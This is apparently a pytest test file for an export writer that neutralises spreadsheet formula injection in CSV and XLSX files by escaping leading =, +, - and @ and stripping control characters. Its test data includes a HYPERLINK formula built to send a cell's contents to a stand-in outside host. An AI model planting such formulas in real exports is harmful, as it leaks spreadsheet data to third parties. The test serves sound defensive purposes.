"""krs.export_writer: the one writer of CSV and XLSX files (issue 13, point 1)."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from krs.export_writer import Font, XlsxBook, csv_chunks, safe_text

KRS = Path(__file__).resolve().parents[2] / "krs"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ('=HYPERLINK("http://x/?"&E2,"Klik")', '\'=HYPERLINK("http://x/?"&E2,"Klik")'),
        ("+62 812", "'+62 812"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\x0b=1", "'=1"),  # a control character in front cannot hide a formula
        ("Siti\x0b Rahayu\x1f", "Siti Rahayu"),
        ("baris\nbaru\ttab", "baris\nbaru\ttab"),  # tab and newline are allowed inside
        ("a=b", "a=b"),
        ("", ""),
        ("\x00", ""),
    ],
)
def test_safe_text(typed, written):
    assert safe_text(typed) == written


ROW = ["=1+2", -5, 2.5, Decimal("-1.25"), date(2026, 3, 4), datetime(2026, 3, 4, 8, 30), None, "-x", "\x0b@y"]


def test_csv_neutralises_text_and_keeps_numbers():
    text = "".join(csv_chunks(["No.", "=Kolom"], [ROW]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [
        ["No.", "'=Kolom"],
        ["'=1+2", "-5", "2.5", "-1.25", "2026-03-04", "2026-03-04 08:30:00", "", "'-x", "'@y"],
    ]


def test_csv_streams_in_chunks_and_strips_control_characters_everywhere():
    rows = [[f"baris {n}", f"a\x0bb{n}\x1f"] for n in range(5)]
    chunks = list(csv_chunks(["h"], rows, every=2))
    assert len(chunks) == 3  # 2 + 2 + the rest (with the header in the first)
    text = "".join(chunks)
    assert "\x0b" not in text and "\x1f" not in text and "ab4" in text


def test_xlsx_keeps_numbers_and_dates_typed_and_writes_formulas_as_text():
    book = XlsxBook()
    ws = book.sheet("Satu")
    ws.widths({"A": 20})
    ws.append(["=Judul"])
    ws.append(ROW)
    title = ws.cell("-judul", font=Font(bold=True))
    ws.append([title, ws.cell(date(2026, 1, 2), number_format="DD/MM/YYYY")])
    second = book.sheet("Dua")
    second.append(["@x", 1])
    wb = load_workbook(io.BytesIO(book.to_bytes()))
    assert wb.sheetnames == ["Satu", "Dua"]
    one = wb["Satu"]
    assert one["A1"].value == "'=Judul" and one["A1"].data_type == "s"
    row = [c for c in one[2]]
    assert [c.value for c in row] == [
        "'=1+2",
        -5,
        2.5,
        -1.25,
        datetime(2026, 3, 4),
        datetime(2026, 3, 4, 8, 30),
        None,
        "'-x",
        "'@y",
    ]
    assert [c.data_type for c in row[:4]] == ["s", "n", "n", "n"] and row[4].is_date and row[5].is_date
    assert one["A3"].value == "'-judul" and one["A3"].font.bold
    assert one["B3"].is_date and one["B3"].number_format == "DD/MM/YYYY"
    assert one.column_dimensions["A"].width == 20
    assert wb["Dua"]["A1"].value == "'@x" and wb["Dua"]["B1"].value == 1
    assert not [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"]


def test_spooled_is_a_file_at_its_start():
    book = XlsxBook()
    book.sheet("S").append(["x"])
    out = book.spooled()
    assert out.read(2) == b"PK"


def test_no_other_module_writes_csv_or_xlsx():
    """Every export goes through krs/export_writer.py: no other module of krs/ imports csv or
    openpyxl (the readers of uploaded workbooks live there too)."""
    offenders = []
    for path in KRS.rglob("*.py"):
        if path.name == "export_writer.py" and path.parent == KRS:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            if any(n.split(".")[0] in ("csv", "openpyxl", "xlsxwriter") for n in names):
                offenders.append(f"{path.relative_to(KRS.parent)}:{node.lineno}")
    assert offenders == []
